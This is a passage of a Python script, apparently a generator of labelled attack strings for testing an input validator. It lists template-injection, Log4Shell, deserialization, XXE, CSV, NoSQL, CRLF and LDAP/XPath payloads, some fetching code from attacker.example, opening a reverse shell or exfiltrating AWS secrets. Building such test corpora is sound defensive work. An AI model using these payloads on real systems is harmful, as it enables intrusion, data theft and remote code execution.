    ("ssti-jinja2-attr-filter", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("ssti-jinja2-block", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}"),
    ("ssti-twig-filter-system", "Hi {{ reporter }}, thanks! {{ ['id']|filter('system') }}"),
    ("ssti-twig-map-passthru", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-twig-self-env", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
    ("ssti-freemarker-execute", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
    ("ssti-freemarker-api", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("ssti-velocity-runtime", "#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()"),
    ("ssti-thymeleaf-preprocess", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("ssti-erb-backtick", "Hi <%= `id` %>, we shipped 5.3.2"),
    ("ssti-erb-system", "Release notes <%= system('cat /etc/passwd') %>"),
    ("ssti-slim-ruby", "#{ `curl attacker.example/r|sh` }"),
    ("ssti-smarty-system", "Dear customer, {system('id')} — Acme Support"),
    ("ssti-handlebars-constructor", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug-code", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs-outputfunction", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ssti-nunjucks-range", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ssti-mako-os", "${self.module.cache.util.os.system('id')}"),
    ("ssti-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-razor-process", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("ssti-jinja2-urlencoded", "%7B%7B%20cycler.__init__.__globals__.os.popen(%27id%27).read()%20%7D%7D"),
    # EL / OGNL / SpEL
    ("el-java-runtime", "Crash in onResume ${Runtime.getRuntime().exec('id')}"),
    ("el-jakarta-reflect", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}"),
    ("ognl-struts-exec", "%{(#_memberAccess['allowStaticMethodAccess']=true).(@java.lang.Runtime@getRuntime().exec('id'))}"),
    ("ognl-content-type-style", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"),
    ("spel-type-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("spel-processbuilder", "T(java.lang.ProcessBuilder).new({'sh','-c','curl attacker.example|sh'}).start()"),
    ("spel-in-device-name", "Pixel 7 #{new java.lang.ProcessBuilder('id').start()}"),
    # eval injection
    ("eval-node-child-process", "require('child_process').execSync('id').toString()"),
    ("eval-node-process-binding", "this.constructor.constructor('return process')().mainModule.require('child_process').exec('curl attacker.example|sh')"),
    ("eval-python-import", "crash_rate > 0.02 and __import__('os').system('id')"),
    ("eval-python-builtins-exec", "exec(\"import socket,subprocess;s=socket.create_connection(('203.0.113.7',4444));subprocess.call(['/bin/sh','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno())\")"),
    ("eval-php-system", "system('id');"),
    ("eval-php-string-close", "';system($_GET['c']);//"),
    ("eval-ruby-string-interp", "#{`id`}"),
    ("eval-groovy-execute", "'id'.execute().text"),
    # Log4Shell
    ("log4shell-plain", "${jndi:ldap://attacker.example:1389/a}"),
    ("log4shell-user-agent-style", "MyApp/5.3.1 (Pixel 7; Android 14) ${jndi:ldap://attacker.example/ua}"),
    ("log4shell-lower-lookup", "${${lower:j}${lower:n}${lower:d}${lower:i}:${lower:r}mi://attacker.example/x}"),
    ("log4shell-default-value", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://attacker.example/z}"),
    ("log4shell-env-exfil", "${jndi:dns://attacker.example/${env:AWS_SECRET_ACCESS_KEY}}"),
    ("log4shell-sys-nested", "Crash in onCreate ${jndi:ldaps://${sys:java.version}.attacker.example/c}"),
    ("log4shell-date-obfuscation", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/d}"),
    # prototype pollution
    ("proto-json-proto", "{\"theme\":\"dark\",\"notifications\":true,\"__proto__\":{\"isAdmin\":true}}"),
    ("proto-json-constructor", "{\"constructor\":{\"prototype\":{\"role\":\"admin\"}}}"),
    ("proto-query-brackets", "settings[__proto__][isAdmin]=true"),
    ("proto-ejs-rce-gadget", "{\"__proto__\":{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('id');x\"}}"),
    # CSV / DDE
    ("csv-dde-cmd", "=cmd|' /C calc'!A0"),
    ("csv-hyperlink-exfil", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Open crash log\")"),
    ("csv-plus-dde", "+cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-webservice", "=WEBSERVICE(\"https://attacker.example/?\"&A2)"),
    ("csv-tab-prefixed", "\t=IMPORTXML(CONCAT(\"https://attacker.example/?\",A1:C3),\"//a\")"),
    # XXE / XInclude
    ("xxe-file-entity", "<?xml version=\"1.0\"?><!DOCTYPE crash [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><crash><note>&xxe;</note></crash>"),
    ("xxe-oob-parameter", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % ext SYSTEM \"http://attacker.example/evil.dtd\"> %ext;]><r/>"),
    ("xxe-ssrf-metadata", "<!DOCTYPE plist [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><plist><string>&m;</string></plist>"),
    ("xinclude-file", "<report xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></report>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///proc/self/environ\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&x;</text></svg>"),
    # deserialization
    ("yaml-python-apply", "app_version: 5.3.1\ncrash_free: !!python/object/apply:os.system [\"id\"]"),
    ("yaml-python-subprocess", "device: Pixel 7\nos: !!python/object/apply:subprocess.check_output [[\"cat\", \"/etc/passwd\"]]"),
    ("yaml-snakeyaml-scriptengine", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("yaml-ruby-gem-installer", "--- !ruby/object:Gem::Installer\ni: x\n--- !ruby/object:Gem::SpecFetcher\ni: y\n--- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader\n  io: &1 !ruby/object:Net::BufferedIO\n    io: &1 !ruby/object:Gem::Package::TarReader::Entry\n       read: 0\n       header: \"abc\"\n    debug_output: &1 !ruby/object:Net::WriteAdapter\n       socket: &1 !ruby/object:Gem::RequestSet\n           sets: !ruby/object:Net::WriteAdapter\n               socket: !ruby/module 'Kernel'\n               method_id: :system\n           git_set: id\n       method_id: :resolve"),
    ("pickle-protocol0-system", "cos\nsystem\n(S'id'\ntR."),
    ("pickle-protocol0-subprocess", "csubprocess\ncheck_output\n((S'curl'\nS'http://attacker.example/p'\nltR."),
    ("java-xmldecoder", "<java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"2\"><void index=\"0\"><string>sh</string></void><void index=\"1\"><string>-c</string></void></array><void method=\"start\"/></object></java>"),
    ("java-xstream-eventhandler", "<sorted-set><string>x</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class=\"java.beans.EventHandler\"><target class=\"java.lang.ProcessBuilder\"><command><string>id</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>"),
    ("java-jackson-jdbcrowset", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/obj\",\"autoCommit\":true}]"),
    ("java-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://attacker.example:1099/Exploit\",\"autoCommit\":true}"),
    ("dotnet-jsonnet-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c whoami\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("php-unserialize-object", "O:8:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}"),
    ("php-phar-wrapper", "phar:///var/www/uploads/crash_5.3.1.jpg/test.txt"),
]
CODE_PREFIX = ["Release notes draft: ", "Hi Priya, ", "Feedback: ", "Device: Pixel 7 / ", "Crash in EditorFragment "]
CODE_PAYLOAD = ["{{7*'7'}}{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
                "${jndi:ldap://attacker.example/t}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"whoami\")}",
                "{{ ['id']|filter('passthru') }}", "${${lower:jndi}:rmi://attacker.example/r}"]

# ------------------------------------------------------------------ nosqli (24 literal + 3 template)
NOSQLI = [
    ("plain-ne-null", "{\"$ne\": null}"),
    ("plain-gt-empty", "{\"$gt\": \"\"}"),
    ("login-json-ne", "{\"email\": \"support@acme.app\", \"password\": {\"$ne\": \"x\"}}"),
    ("query-bracket-ne", "password[$ne]=1"),
    ("query-bracket-regex", "email[$regex]=^adm&password[$ne]=x"),
    ("regex-prefix-extraction", "{\"reset_token\": {\"$regex\": \"^a\"}, \"app\": \"com.acme.notes\"}"),
    ("regex-redos", "{\"$regex\": \"^(a+)+$\"}"),
    ("where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js-string-break", "5.3.1'; return true; var y='"),
    ("where-or-truthy", "' || '1'=='1"),
    ("where-this-password", "'; return this.password.match(/^a/) && ''=='"),
    ("in-operator", "{\"status\": {\"$in\": [\"open\", \"closed\", \"deleted\", \"internal\"]}}"),
    ("nin-empty", "{\"assignee\": {\"$nin\": []}}"),
    ("exists-true", "{\"api_key\": {\"$exists\": true}}"),
    ("expr-always-true", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("or-injection", "{\"$or\": [{\"owner\": \"me\"}, {\"_id\": {\"$ne\": null}}]}"),
    ("function-operator", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(3000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("lookup-pipeline-stage", "[{\"$lookup\": {\"from\": \"users\", \"localField\": \"reporter\", \"foreignField\": \"_id\", \"as\": \"u\"}}]"),
    ("filter-tag-in-report", "tag:crash {\"device\": {\"$gt\": \"\"}, \"internal_notes\": {\"$exists\": true}}"),
    ("mapreduce-js", "{\"mapReduce\": \"reports\", \"map\": \"function(){ emit(1, db.users.find().toArray()) }\", \"reduce\": \"function(k,v){return v}\"}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"password_scheme\", \"derived_key\"]}"),
    ("urlencoded-operator", "token%5B%24ne%5D=x"),
    ("unicode-escaped-dollar", "{\"password\": {\"\\u0024ne\": \"\"}}"),
    ("where-function-dos", "{\"$where\": \"function(){ var d=new Date(); while(new Date()-d<10000){}; return true; }\"}"),
]
NOSQL_PREFIX = ["filter=", "search saved view: ", "assignee="]
NOSQL_PAYLOAD = ["{\"$ne\": \"\"}", "{\"$regex\": \".*\"}", "{\"$where\": \"1==1\"}", "{\"$gt\": \"\"}"]

# ------------------------------------------------------------------ crlf (26 literal + 4 template)
CRLF = [
    ("plain-set-cookie", "\r\nSet-Cookie: session=attacker-fixed-session"),
    ("log-forging-fake-line", "App crashed again\n2024-05-14 09:12:34 INFO [auth] login success user=admin ip=10.0.0.1"),
    ("log-forging-logcat", "Crash on open\n05-14 09:12:34.001  1000  1000 I ActivityManager: Permission granted com.acme.notes android.permission.INSTALL_PACKAGES"),
    ("log-forging-audit", "Great app!\r\n[AUDIT] agent=priya action=refund_approved ticket=48121 amount=999.00"),
    ("log-forging-urlencoded", "feedback%0d%0a2024-05-14T09:12:35Z level=info msg=\"user deleted\" user=ceo@acme.app"),
    ("log-forging-unicode-line-sep", "Crash\u2028[INFO] 2024-05-14 admin password reset completed"),
    ("log-forging-nel", "Crash\u0085WARN security scan passed, disabling WAF"),
    ("header-redirect", "myapp://order/8812\r\nLocation: https://attacker.example/login"),
    ("header-injection-encoded", "5.3.1%0d%0aSet-Cookie:%20admin=true;%20Path=/"),
    ("header-injection-lf-only", "en-US%0aX-Forwarded-For:%20127.0.0.1"),
    ("response-splitting", "ticket%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0aContent-Length:%2035%0d%0a%0d%0a<script>alert(document.domain)</script>"),
    ("response-splitting-raw", "x\r\nContent-Type: text/html\r\n\r\n<html><body>Session expired, <a href=https://attacker.example>log in</a></body></html>"),
    ("header-acao", "lang=de%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true"),
    ("header-csp-override", "x%0d%0aContent-Security-Policy:%20script-src%20*"),
    ("double-encoded-crlf", "crash%250d%250aSet-Cookie:%2520sid=1"),
    ("utf8-overlong-crlf", "crash%E5%98%8A%E5%98%8DSet-Cookie:%20sid=evil"),
    ("percent-u-crlf", "crash%u000d%u000aX-Injected:%20yes"),
    ("json-unicode-escape-crlf", "crash\\u000d\\u000aX-Cache-Key: poisoned"),
    ("mail-bcc-injection", "maria@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-cc-encoded", "support%40acme.app%0d%0aCc:%20list@attacker.example"),
    ("mail-subject-body-injection", "Crash on launch\r\nContent-Type: text/html\r\n\r\n<p>Your account is locked, verify at https://attacker.example/verify</p>"),
    ("mail-from-spoof", "Feedback\nFrom: security@acme.app\nReply-To: reset@attacker.example"),
    ("smtp-dot-injection", "Thanks!\r\n.\r\nMAIL FROM:<ceo@acme.app>\r\nRCPT TO:<all-staff@acme.app>\r\nDATA\r\nPlease buy gift cards\r\n.\r\n"),
    ("redis-protocol-injection", "crash\r\nSET maintenance_mode 1\r\n"),
    ("http-request-smuggling-header", "x\r\nTransfer-Encoding: chunked"),
    ("syslog-forging-cr-only", "Crash on launch\rMay 14 09:12:35 api-1 sshd[812]: Accepted password for root from 10.0.0.7"),
]
CRLF_PREFIX = ["Crash on launch", "myapp://order/8812", "5.3.1", "Pixel 7"]
CRLF_PAYLOAD = ["%0d%0aSet-Cookie:%20sid=attacker", "\r\nX-Forwarded-Host: attacker.example",
                "\n2024-05-14 09:13:00 INFO admin logged in from 10.0.0.2", "%0AContent-Length:%200%0A%0A"]

# ------------------------------------------------------------------ ldap-xpath (18 literal + 2 template)
LDAP_XPATH = [
    ("ldap-wildcard-bypass", "*)(uid=*))(|(uid=*"),
    ("ldap-admin-and-true", "admin)(&)"),
    ("ldap-or-objectclass", "*)(|(objectClass=*)"),
    ("ldap-password-wildcard", "priya)(|(userPassword=*)"),
    ("ldap-blind-attribute", "*)(mail=a*"),
    ("ldap-null-byte-truncation", "admin)(cn=*))%00"),
    ("ldap-and-inject", "*)(&(objectClass=person)(uid=admin"),
    ("ldap-agent-lookup-theme", "Support agent: priya*)(memberOf=cn=admins,ou=groups,dc=acme,dc=app"),
    ("ldap-urlencoded", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("xpath-or-true", "' or '1'='1"),
    ("xpath-or-true-numeric", "1 or 1=1"),
    ("xpath-union-all-nodes", "'] | //* | //*['"),
    ("xpath-user-password", "x' or name()='user' or 'a'='b"),
    ("xpath-blind-substring", "' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("xpath-count-children", "' or count(/*/*)>0 or '"),
    ("xpath-string-length", "admin' and string-length(//user[name='admin']/token)>20 and '1'='1"),
    ("xpath-doc-ssrf", "' or doc('http://attacker.example/x.xml') or '"),
    ("xpath-device-filter-theme", "Pixel 7'] | //device/serial | //x['"),
]
LDAP_PREFIX = ["agent=", "reporter uid: "]
LDAP_PAYLOAD = ["*)(|(cn=*", "' or ''='", "admin)(!(cn=x)"]


def enc_url(s):
    return urllib.parse.quote(s, safe="")


def enc_none(s):
    return s


ENCODINGS = [("", enc_none), ("+urlencode", enc_url)]

SPECS = [
    ("sqli", SQLI, SQLI_PREFIX, SQLI_PAYLOAD, 8, "tmpl-prefix"),
    ("xss", XSS, XSS_PREFIX, XSS_PAYLOAD, 8, "tmpl-prefix"),
    ("cmdi", CMDI, CMDI_PREFIX, CMDI_PAYLOAD, 8, "tmpl-filename"),
    ("traversal", TRAVERSAL, TRAV_PREFIX, TRAV_PAYLOAD, 6, "tmpl-dir"),
    ("ssrf", SSRF, SSRF_PREFIX, SSRF_PAYLOAD, 6, "tmpl-field"),
    ("code", CODE, CODE_PREFIX, CODE_PAYLOAD, 8, "tmpl-prefix"),
    ("nosqli", NOSQLI, NOSQL_PREFIX, NOSQL_PAYLOAD, 3, "tmpl-prefix"),
    ("crlf", CRLF, CRLF_PREFIX, CRLF_PAYLOAD, 4, "tmpl-suffix"),
    ("ldap-xpath", LDAP_XPATH, LDAP_PREFIX, LDAP_PAYLOAD, 2, "tmpl-prefix"),
]


def build():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    for cat, lits, prefixes, payloads, n_tmpl, tname in SPECS:
        for cls, v in lits:
            assert v and v not in seen, (cat, v)
            seen.add(v)
            rows.append((cat, cls, v))
        made = 0
        while made < n_tmpl:
            p = rng.choice(prefixes)
            pl = rng.choice(payloads)
            ename, efn = rng.choice(ENCODINGS)
            v = p + efn(pl)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, f"{tname}{ename}", v))
            made += 1
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        out.append(json.dumps({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls, "label": "attack",
                               "value": v}, ensure_ascii=False))
    return out


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    lines = build()
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    print(f"wrote {len(lines)} attack values")


if __name__ == "__main__":
    main()
